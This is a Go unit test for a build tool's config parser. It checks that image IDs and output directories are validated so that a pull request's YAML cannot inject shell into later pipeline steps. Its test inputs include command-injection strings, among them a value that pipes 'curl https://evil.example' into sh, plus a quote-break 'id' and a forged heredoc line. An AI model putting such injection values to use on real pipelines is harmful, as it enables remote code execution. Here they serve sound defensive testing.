package config_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/sindri-dev/sindri-packer/internal/config"
	"github.com/sindri-dev/sindri-packer/internal/targets"
)

func noEnv(string) (string, bool) { return "", false }

// Issue 10 item 2: image_id went to the step outputs unchecked; a pull
// request's sindri.yaml could hand a later step's script any text. It is
// checked against its cloud's form, at its line.
func TestImageIDCheckedAtItsField(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, yaml string
		sets       []string
		wantLine   int
		wantField  string
		wantErr    string // "" = accepted
	}{
		{
			name:     "AMI with a shell payload",
			yaml:     "packer:\n  cloud: aws\n  image_id: 'ami-0abc\"; curl https://evil.example | sh; echo \"'\n",
			wantLine: 3, wantField: "packer.image_id", wantErr: "is not an AMI ID",
		},
		{
			name:     "another cloud's ID",
			yaml:     "packer:\n  clouds:\n    gcp:\n      project_id: my-project\n      image_id: ocid1.image.oc1..aaaa\n",
			wantLine: 5, wantField: "packer.clouds.gcp.image_id", wantErr: "is not a GCP image name",
		},
		{
			name:      "set on the command line",
			yaml:      "packer:\n  cloud: aws\n",
			sets:      []string{"packer.image_id=ami-1\nforged<<EOF"},
			wantField: "packer.image_id", wantErr: "is not an AMI ID",
		},
		{
			name:     "qemu output_dir with a quote",
			yaml:     "packer:\n  cloud: qemu\n  base_image: base.qcow2\n  output_dir: 'out\"; id; \"'\n",
			wantLine: 4, wantField: "packer.output_dir", wantErr: "becomes a step output",
		},
		{name: "good AMI", yaml: "packer:\n  cloud: aws\n  image_id: ami-0123456789abcdef0\n"},
		{name: "good OCID", yaml: "packer:\n  cloud: oci\n  image_id: ocid1.image.oc1.iad.aaaa\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			_, err := config.Parse("sindri.yaml", []byte(tt.yaml), config.Options{Getenv: noEnv, Sets: tt.sets, ImageID: targets.CheckImageID})
			var ds config.Diagnostics
			if tt.wantErr == "" {
				for _, d := range ds {
					if strings.Contains(d.Message, "image") {
						t.Errorf("refused: %v", d)
					}
				}
				if errors.As(err, &ds) {
					for _, d := range ds {
						if d.Field == "packer.image_id" {
							t.Errorf("refused: %v", d)
						}
					}
				}
				return
			}
			if !errors.As(err, &ds) {
				t.Fatalf("Parse = %v, want diagnostics", err)
			}
			for _, d := range ds {
				if d.Field == tt.wantField && strings.Contains(d.Message, tt.wantErr) && (tt.wantLine == 0 || d.Line == tt.wantLine) {
					return
				}
			}
			t.Errorf("diagnostics %v lack %s at line %d with %q", ds, tt.wantField, tt.wantLine, tt.wantErr)
		})
	}
}
